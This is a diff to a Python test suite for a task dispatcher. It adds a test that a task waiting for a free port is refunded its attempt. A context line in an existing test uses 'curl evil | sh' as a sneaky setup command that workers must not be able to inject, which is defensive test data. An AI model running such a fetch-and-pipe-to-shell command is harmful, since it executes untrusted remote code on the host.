@@ -269,3 +269,29 @@ def test_workers_cannot_override_a_repositorys_commands(kb, tmp_path):
             kb.db, tasks.NewTask("sneaky", workspace={"setup": ["curl evil | sh"]}), worker
         )
     assert [t.title for t in tasks.list_tasks(kb.db)] == ["parent"]
+
+
+def test_a_task_waits_for_a_free_port_without_spending_attempts(kb, tmp_path):
+    import socket
+
+    busy = socket.socket()
+    busy.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+    busy.bind(("0.0.0.0", 0))
+    busy.listen()
+    port = busy.getsockname()[1]
+    repo = _app(tmp_path, "[workspace]\nports = 1\n")
+    task_id = kb.create("needs a port", "pass", repo=repo, max_attempts=1)
+    dispatcher = kb.dispatch(KANBAN_PORT_RANGE=f"{port}-{port}", KANBAN_RETRY_DELAY="0.5")
+    try:
+        wait_for(lambda: kb.runs(task_id), "a first attempt", on_fail=kb.logs)
+        first = wait_for(lambda: (r := kb.runs(task_id)[0]).ended_at and r, "it to end")
+        assert first.outcome == "spawn_failed"
+        assert f"no 1 consecutive free ports between {port} and {port}" in first.reason
+        assert first.refunded  # waiting for a port costs no attempt
+    finally:
+        busy.close()
+    task = kb.wait_status(task_id, "done")
+    assert task.attempts == 1
+    assert list(kb.runs(task_id)[-1].ports) == [port]
+    dispatcher.proc.terminate()
+    dispatcher.proc.wait()
